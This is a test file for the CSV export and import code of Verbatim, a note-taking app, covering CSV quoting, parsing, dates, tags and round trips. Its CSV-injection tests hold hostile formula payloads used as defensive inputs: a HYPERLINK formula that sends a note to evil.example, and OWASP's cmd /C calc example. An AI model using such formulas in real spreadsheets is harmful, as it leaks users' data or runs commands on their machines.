import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { VerbatimDb } from '../../utils/db/schema';
import type { Note } from '../../utils/domain/model';
import { FormatError } from '../../utils/export/format-error';
import {
  READWISE_COLUMNS,
  csvCell,
  csvField,
  neutralizeCell,
  parseCsv,
  parseReadwiseCsv,
  readwiseDate,
  readwiseNote,
  readwiseToRecords,
  restoreCell,
  splitTags,
  toReadwiseCsv,
} from '../../utils/export/csv';
import { importRecords } from '../../utils/export/import';
import { highlight, sampleLibrary } from '../support/library';
import { dbPerTest, newTestDb } from '../support/db';

const errorOf = (run: () => unknown) => {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(FormatError);
    return (error as Error).message;
  }
  throw new Error('accepted');
};

describe('toReadwiseCsv', () => {
  const { articles, notes } = sampleLibrary();
  const csv = toReadwiseCsv(articles, notes);

  it('starts with a UTF-8 byte order mark and Readwise’s columns, exactly', () => {
    expect(csv.startsWith('\uFEFFHighlight,Title,Author,URL,Note,Location,Date\r\n')).toBe(true);
    expect(READWISE_COLUMNS).toEqual(['Highlight', 'Title', 'Author', 'URL', 'Note', 'Location', 'Date']);
    // Encoded as UTF-8, the mark is EF BB BF: what spreadsheets look for.
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(toReadwiseCsv(articles, notes, { bom: false }).startsWith('Highlight,')).toBe(true);
  });

  it('adds a Speaker column after Readwise’s when a note has a speaker, and reads it back as a quote', () => {
    const spoken = notes.map((n, i) => (i === 1 ? { ...n, speaker: 'Simone de Beauvoir, « la Castor »' } : n));
    const file = toReadwiseCsv(articles, spoken);
    const rows = parseCsv(file);
    expect(rows[0]).toEqual([...READWISE_COLUMNS, 'Speaker']);
    expect(rows.map((r) => r[7])).toEqual(['Speaker', '', 'Simone de Beauvoir, « la Castor »', '', '', '']);
    const back = readwiseToRecords(parseReadwiseCsv(file), { now: 0 }).notes;
    const quote = back.find((n) => n.exact === notes[1]!.exact)!;
    expect(quote).toMatchObject({ kind: 'quote', speaker: 'Simone de Beauvoir, « la Castor »' });
    expect(back.filter((n) => n.speaker)).toHaveLength(1);
    // Without any speaker the file keeps Readwise's columns exactly.
    expect(parseCsv(csv)[0]).toEqual([...READWISE_COLUMNS]);
  });

  it('ends every line with CRLF, the last one too', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    // Outside quoted fields, no bare LF or CR.
    const unquoted = csv.replace(/"(?:[^"]|"")*"/g, '');
    expect(unquoted.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('writes one row per note: the page’s notes together, in reading order', () => {
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(1 + notes.length);
    expect(rows.slice(1).map((r) => r[0])).toEqual([notes[0]!.exact, notes[1]!.exact, notes[2]!.exact, notes[3]!.exact, notes[4]!.exact]);
    expect(rows[1]).toEqual([
      'Le pouvoir, « disait-il », n’est rien sans l’adhésion.',
      'L’État, c’est « moi » : notes sur le pouvoir',
      'Jeanne d’Arc-Dupont',
      articles[0]!.url,
      '.politique .à-relire Voir aussi Tocqueville, chap. 3,\n« la tyrannie de la majorité ».',
      '0',
      '2024-03-07 09:30:01',
    ]);
  });

  it('quotes exactly the fields that need it, doubling quotes', () => {
    expect(csv.split('\r\n')[1]).toBe(
      '"Le pouvoir, « disait-il », n’est rien sans l’adhésion.","L’État, c’est « moi » : notes sur le pouvoir",' +
        `Jeanne d’Arc-Dupont,${articles[0]!.url},".politique .à-relire Voir aussi Tocqueville, chap. 3,\n« la tyrannie de la majorité ».",0,2024-03-07 09:30:01`,
    );
    expect(csv).toContain('"L’État, c’est « moi » : notes sur le pouvoir",Jeanne d’Arc-Dupont,https://www.lemonde.fr/');
    expect(csv).toContain('"First line, with a comma\nSecond ""quoted"" line"');
    expect(csv).toContain(',"O\'Brien, Pat",');
    expect(csv).toContain(',".wiki/foo Emoji 😀, virgule, ""guillemets"" et\r\nretour chariot.",14,');
  });

  it('gives notes of pages without an article their attribution’s title, else the URL', () => {
    const rows = new Map(parseCsv(toReadwiseCsv([], notes)).map((r) => [r[0], r]));
    // The quote carries its attribution; the highlight beside it does not.
    expect(rows.get(notes[1]!.exact)!.slice(1, 3)).toEqual(['L’État, c’est « moi » : notes sur le pouvoir', 'Jeanne d’Arc-Dupont']);
    expect(rows.get(notes[0]!.exact)!.slice(1, 3)).toEqual([notes[0]!.url, '']);
    expect(rows.get(notes[2]!.exact)![5]).toBe('7');
    expect(rows.get(notes[3]!.exact)![5]).toBe('');
  });
});

describe('formula cells (OWASP CSV injection)', () => {
  const URL = 'https://www.exemple.fr/article';
  const note = (exact: string, extra: Partial<Note> = {}): Note =>
    highlight({ id: crypto.randomUUID(), url: URL, exact, createdAt: Date.UTC(2024, 2, 7), updatedAt: Date.UTC(2024, 2, 7), ...extra });
  /** The cells of the file's first row, as a spreadsheet reads them (no import-side restoring). */
  const firstRow = (csv: string) => parseCsv(csv)[1]!;

  it.each(['=', '+', '-', '@', '\t', '\r'])('a cell starting with %j is written quoted, after a single quote', (c) => {
    const text = `${c}1+2`;
    const csv = toReadwiseCsv([{ id: 'a', url: URL, title: 'Titre', tags: [], createdAt: 0, updatedAt: 0 }], [note(`Passage ${c}`, { note: text })]);
    expect(firstRow(csv)[4]).toBe(`'${text}`);
    expect(csv).toContain(`,"'${text}",`);
    expect(csvCell(text)).toBe(`"'${text}"`);
  });

  it('defuses a page title that would send the row’s note to another site', () => {
    const title = '=HYPERLINK("https://evil.example/?"&E2,"x")';
    const csv = toReadwiseCsv([{ id: 'a', url: URL, title, tags: [], createdAt: 0, updatedAt: 0 }], [note('Un passage', { note: 'ma note privée' })]);
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&E2,""x"")",`);
    const cells = firstRow(csv);
    expect(cells[1]).toBe(`'${title}`);
    // No cell of the file starts as a formula.
    for (const cell of parseCsv(csv).flat()) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
  });

  it.each([
    // OWASP's own examples: the separator and quotes inside the cell cannot start another cell.
    ['=1+2";=1+2', `"'=1+2"";=1+2"`],
    [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
  ])('OWASP’s example %j → %j', (value, field) => {
    expect(csvCell(value)).toBe(field);
  });

  it.each([
    [' =1+2', `"' =1+2"`],
    ['  -5', `"'  -5"`],
    ['\n@x', `"'\n@x"`],
    ['\u00a0+1', `"'\u00a0+1"`],
    ['\u3000=1', `"'\u3000=1"`],
  ])('a formula behind leading whitespace %j is neutralised too (an importer may trim it)', (value, field) => {
    expect(csvCell(value)).toBe(field);
  });

  it.each(['plain', ' spaced text', 'a=b', '1-2', "'Tis the season", '', '.tag note', '＝1+2'])('leaves %j as it was', (value) => {
    expect(neutralizeCell(value)).toBe(value);
    expect(restoreCell(value)).toBe(value);
  });

  it('round trip through the importer: neutralised text, and text with its own leading quotes, come back exactly', () => {
    const texts = ['-5% de marge', '=SOMME(A1:A3)', '+33 6 12 34 56 78', '@dupont a raison', '\tindenté', ' =espace', "'=déjà neutralisé", "''+deux", "'Tis", "'"];
    const csv = toReadwiseCsv([], texts.map((t, i) => note(`${t} (passage ${i})`, { note: t, exact: t.trim() ? t : `x${i}` })));
    const back = readwiseToRecords(parseReadwiseCsv(csv)).notes;
    expect(back.map((n) => n.note)).toEqual(texts);
    expect(back.map((n) => n.exact)).toEqual(texts.map((t, i) => (t.trim() ? t : `x${i}`)));
  });

  it('property: restoreCell undoes neutralizeCell, and no neutralised cell starts as a formula', () => {
    const cell = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u00a0', 'a', '5') });
    fc.assert(
      fc.property(cell, (value) => {
        const safe = neutralizeCell(value);
        expect(restoreCell(safe)).toBe(value);
        expect(safe).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('csvField (RFC 4180)', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['"', '""""'],
    ['line\nbreak', '"line\nbreak"'],
    ['carriage\rreturn', '"carriage\rreturn"'],
    ['crlf\r\nend', '"crlf\r\nend"'],
    [' spaces kept ', ' spaces kept '],
    ['« guillemets » et l’apostrophe', '« guillemets » et l’apostrophe'],
    ['emoji 😀🇫🇷', 'emoji 😀🇫🇷'],
  ])('%j → %j', (value, field) => {
    expect(csvField(value)).toBe(field);
    expect(parseCsv(`${field}\r\n`)).toEqual([[value]]);
  });
});

describe('parseCsv', () => {
  it('property: reads back any rows written field by field with csvField', () => {
    const field = fc.string({ unit: fc.constantFrom('a', 'é', ',', '"', '\r', '\n', ' ', '😀', '«', '’') });
    // A record of one empty field is an empty line, which reads back as [''] too.
    const rows = fc.array(fc.array(field, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 8 });
    fc.assert(
      fc.property(rows, fc.constantFrom('\r\n', '\n'), (records, eol) => {
        const text = records.map((r) => r.map(csvField).join(',')).join(eol) + eol;
        expect(parseCsv(text)).toEqual(records);
      }),
      { numRuns: 500 },
    );
  });

  it.each<[string, string, string[][]]>([
    ['CRLF', 'a,b\r\nc,d\r\n', [['a', 'b'], ['c', 'd']]],
    ['LF', 'a,b\nc,d\n', [['a', 'b'], ['c', 'd']]],
    ['CR', 'a,b\rc,d', [['a', 'b'], ['c', 'd']]],
    ['no final line end', 'a,b\r\nc,d', [['a', 'b'], ['c', 'd']]],
    ['empty fields', ',,\r\n', [['', '', '']]],
    ['a trailing empty field', 'a,\r\n', [['a', '']]],
    ['quoted commas, quotes and line ends', '"a,1","b ""2""","c\r\nd"\r\n', [['a,1', 'b "2"', 'c\r\nd']]],
    ['an empty quoted field', '"",x', [['', 'x']]],
    ['a byte order mark', '\uFEFFa,b', [['a', 'b']]],
    ['a quote inside an unquoted field, as text', 'a 5" screen,b', [['a 5" screen', 'b']]],
    ['a blank line', 'a\r\n\r\nb', [['a'], [''], ['b']]],
  ])('%s', (_, text, rows) => {
    expect(parseCsv(text)).toEqual(rows);
  });

  it('names the row of a quoted field never closed (counting quoted line breaks in their row)', () => {
    expect(errorOf(() => parseCsv('h\r\n"ok\r\nstill row 2"\r\n"never closed'))).toBe('row 3: a quoted field is never closed (the file ends early)');
  });

  it('names the row and field of text after a closing quote', () => {
    expect(errorOf(() => parseCsv('a,b\r\nx,"y"z'))).toBe('row 2: text after the closing quote of field 2');
  });
});

describe('parseReadwiseCsv', () => {
  it('reads what toReadwiseCsv writes', () => {
    const { articles, notes } = sampleLibrary();
    const rows = parseReadwiseCsv(toReadwiseCsv(articles, notes));
    expect(rows).toHaveLength(5);
    expect(rows[0]).toEqual({
      row: 2,
      highlight: notes[0]!.exact,
      title: articles[0]!.title,
      author: 'Jeanne d’Arc-Dupont',
      url: articles[0]!.url,
      note: '.politique .à-relire Voir aussi Tocqueville, chap. 3,\n« la tyrannie de la majorité ».',
      location: '0',
      date: '2024-03-07 09:30:01',
    });
    expect(rows[4]!.row).toBe(6);
  });

  it('takes columns in any order and case, requires only Highlight, ignores unknown ones', () => {
    const rows = parseReadwiseCsv('note,EXTRA,highlight\nma note,x,Le passage\n');
    expect(rows).toEqual([{ row: 2, highlight: 'Le passage', note: 'ma note' }]);
  });

  it('reads the columns of Readwise’s own export', () => {
    const rows = parseReadwiseCsv(
      'Highlight,Book Title,Book Author,Amazon Book ID,Note,Color,Tags,Location Type,Location,Highlighted at,Document tags\n' +
        'Un passage,Un livre,Une autrice,,Une note,yellow,"a,b",order,12,2023-10-05 10:00:00+00:00,\n',
    );
    expect(rows[0]).toMatchObject({ highlight: 'Un passage', title: 'Un livre', author: 'Une autrice', tags: 'a,b', location: '12', date: '2023-10-05 10:00:00+00:00' });
  });

  it('skips blank rows, keeping the row numbers a spreadsheet shows', () => {
    const rows = parseReadwiseCsv('Highlight,URL\r\n\r\n,,\r\n"deux\r\nlignes",https://a.fr\r\n');
    expect(rows).toEqual([{ row: 4, highlight: 'deux\r\nlignes', url: 'https://a.fr' }]);
  });

  it.each([
    ['', 'the file is empty'],
    ['\uFEFF', 'the file is empty'],
    ['Title,URL\nx,https://a.fr', 'row 1: no "Highlight" column (found: "Title", "URL")'],
    ['Highlight,Title\nok,t\n ,only a title\n', 'row 3: the highlight is empty'],
    ['Highlight\n"open', 'row 2: a quoted field is never closed (the file ends early)'],
  ])('rejects %j', (text, message) => {
    expect(errorOf(() => parseReadwiseCsv(text))).toBe(message);
  });
});

describe('Readwise inline tags', () => {
  it.each<[string, string[], string]>([
    ['', [], ''],
    ['une note', [], 'une note'],
    ['', ['idées'], '.idées'],
    ['note', ['machine learning', 'c++'], '.machine-learning .c++ note'],
  ])('%j with %j → %j', (note, tags, text) => {
    expect(readwiseNote(note, tags)).toBe(text);
  });

  it('reads leading .tags back and leaves the rest of the note as it was', () => {
    expect(splitTags('.a .b-c Le reste, .pas-un-tag')).toEqual({ tags: ['a', 'b-c'], note: 'Le reste, .pas-un-tag' });
    expect(splitTags('.seul')).toEqual({ tags: ['seul'], note: '' });
    expect(splitTags('... suspense')).toEqual({ tags: [], note: '... suspense' });
    expect(splitTags('.t \tindented')).toEqual({ tags: ['t'], note: '\tindented' });
  });
});

describe('readwiseDate', () => {
  it('is YYYY-MM-DD HH:MM:SS in UTC', () => {
    expect(readwiseDate(Date.UTC(2024, 0, 2, 3, 4, 5, 678))).toBe('2024-01-02 03:04:05');
  });
});

describe('readwiseToRecords', () => {
  const NOW = Date.UTC(2026, 0, 1);

  it('round trip: a Verbatim export comes back as the same passages, notes, tags, positions and dates', () => {
    const { articles, notes } = sampleLibrary();
    const back = readwiseToRecords(parseReadwiseCsv(toReadwiseCsv(articles, notes)), { now: NOW });
    expect(back.skipped).toEqual([]);
    expect(back.notes).toHaveLength(notes.length);
    back.notes.forEach((got, i) => {
      const want = notes[i]!;
      expect(got.url).toBe(want.url);
      expect(got.exact).toBe(want.exact);
      expect(got.note).toBe(want.note);
      // Readwise tags have no spaces: "machine learning" comes back as "machine-learning".
      expect(got.tags).toEqual(want.tags.map((t) => t.replace(/ /g, '-')));
      expect(got.createdAt).toBe(Math.floor(want.createdAt / 1000) * 1000);
      const position = want.selectors.find((s) => s.type === 'TextPositionSelector');
      expect(got.selectors).toEqual([
        { type: 'TextQuoteSelector', exact: want.exact },
        ...(position ? [{ type: 'TextPositionSelector', start: position.start, end: position.start + want.exact.length }] : []),
      ]);
    });
    expect(back.articles.map((a) => [a.url, a.title, a.byline])).toEqual([
      [articles[0]!.url, articles[0]!.title, articles[0]!.byline],
      // Titles are written on one line.
      [articles[1]!.url, '"Quotes", colons: and #hashes — a test with a newline', articles[1]!.byline],
      [articles[2]!.url, articles[2]!.title, undefined],
    ]);
  });

  it('gives the same ids to the same rows, so importing a file twice updates instead of duplicating', async () => {
    const { articles, notes } = sampleLibrary();
    const csv = toReadwiseCsv(articles, notes);
    const first = readwiseToRecords(parseReadwiseCsv(csv), { now: NOW });
    const second = readwiseToRecords(parseReadwiseCsv(csv), { now: NOW });
    expect(second.notes.map((n) => n.id)).toEqual(first.notes.map((n) => n.id));
    expect(new Set(first.notes.map((n) => n.id)).size).toBe(notes.length);

    const db = newTestDb();
    try {
      expect((await importRecords(db, first, { articles: 'add-only' })).byKind.notes.added).toBe(5);
      expect((await importRecords(db, second, { articles: 'add-only' })).byKind.notes).toEqual({ added: 0, updated: 0, skipped: 5 });
      expect(await db.notes.count()).toBe(5);
      expect(await db.articles.count()).toBe(3);
    } finally {
      await db.delete();
    }
  });

  it('skips rows without an http(s) URL, saying why', () => {
    const rows = parseReadwiseCsv('Highlight,URL\na,\nb,ftp://x.fr/f\nc,https://ok.fr/\n');
    const out = readwiseToRecords(rows, { now: NOW });
    expect(out.skipped).toEqual([
      { row: 2, reason: 'no URL' },
      { row: 3, reason: 'not an http(s) URL: ftp://x.fr/f' },
    ]);
    expect(out.notes.map((n) => n.exact)).toEqual(['c']);
  });

  it('normalises URLs as Verbatim keys pages, and uses the time given for rows without a date', () => {
    const out = readwiseToRecords(parseReadwiseCsv('Highlight,URL\na,HTTPS://Example.FR/p?utm_source=x&id=2#top\n'), { now: NOW });
    expect(out.notes[0]).toMatchObject({ url: 'https://example.fr/p?id=2', createdAt: NOW, updatedAt: NOW, kind: 'highlight', color: 'yellow', note: '', tags: [] });
    expect(out.articles[0]).toMatchObject({ url: 'https://example.fr/p?id=2', title: 'https://example.fr/p?id=2' });
  });

  it.each([
    ['2024-03-07 09:30:01', Date.UTC(2024, 2, 7, 9, 30, 1)],
    ['2024-03-07', Date.UTC(2024, 2, 7)],
    ['2024-03-07T09:30:01.250Z', Date.UTC(2024, 2, 7, 9, 30, 1, 250)],
    ['2023-10-05 10:00:00+02:00', Date.UTC(2023, 9, 5, 8)],
  ])('reads the date %j', (date, ms) => {
    const out = readwiseToRecords([{ row: 2, highlight: 'x', url: 'https://a.fr/', date }]);
    expect(out.notes[0]!.createdAt).toBe(ms);
  });

  it('names the row of a date it cannot read, or a value beyond Verbatim’s limits', () => {
    expect(errorOf(() => readwiseToRecords([{ row: 7, highlight: 'x', url: 'https://a.fr/', date: 'mardi dernier' }]))).toBe(
      'row 7: not a date: "mardi dernier"',
    );
    expect(errorOf(() => readwiseToRecords([{ row: 9, highlight: 'x'.repeat(200_001), url: 'https://a.fr/' }]))).toBe(
      'row 9: exact: too long (200001 > 200000)',
    );
  });

  it('takes tags from a Tags column too', () => {
    const out = readwiseToRecords([{ row: 2, highlight: 'x', url: 'https://a.fr/', note: '.un texte', tags: 'deux, trois' }]);
    expect(out.notes[0]).toMatchObject({ tags: ['un', 'deux', 'trois'], note: 'texte' });
  });

  it('keeps French text intact through a file saved by a spreadsheet (BOM, CRLF, quoted line breaks)', () => {
    const text = '\uFEFFHighlight,Title,URL,Note\r\n"« Éloge de l’ombre », dit-il.\r\nFin.",Tanizaki,https://a.fr/,"Très ""beau"" 😀"\r\n';
    const [note] = readwiseToRecords(parseReadwiseCsv(text), { now: NOW }).notes as [Note];
    expect(note.exact).toBe('« Éloge de l’ombre », dit-il.\r\nFin.');
    expect(note.note).toBe('Très "beau" 😀');
  });
});

describe('importing a Readwise CSV', () => {
  let db: VerbatimDb;
  dbPerTest((fresh) => (db = fresh));

  it('a CSV with an error changes nothing', async () => {
    const { articles, notes } = sampleLibrary();
    await importRecords(db, sampleLibrary());
    const before = [await db.notes.count(), await db.articles.count()];
    const broken = toReadwiseCsv(articles, notes).replace('2024-03-07 09:32:01', 'pas une date');
    await expect(async () => importRecords(db, readwiseToRecords(parseReadwiseCsv(broken)), { articles: 'add-only' })).rejects.toThrow(
      /^row 6: not a date/,
    );
    expect([await db.notes.count(), await db.articles.count()]).toEqual(before);
  });
});
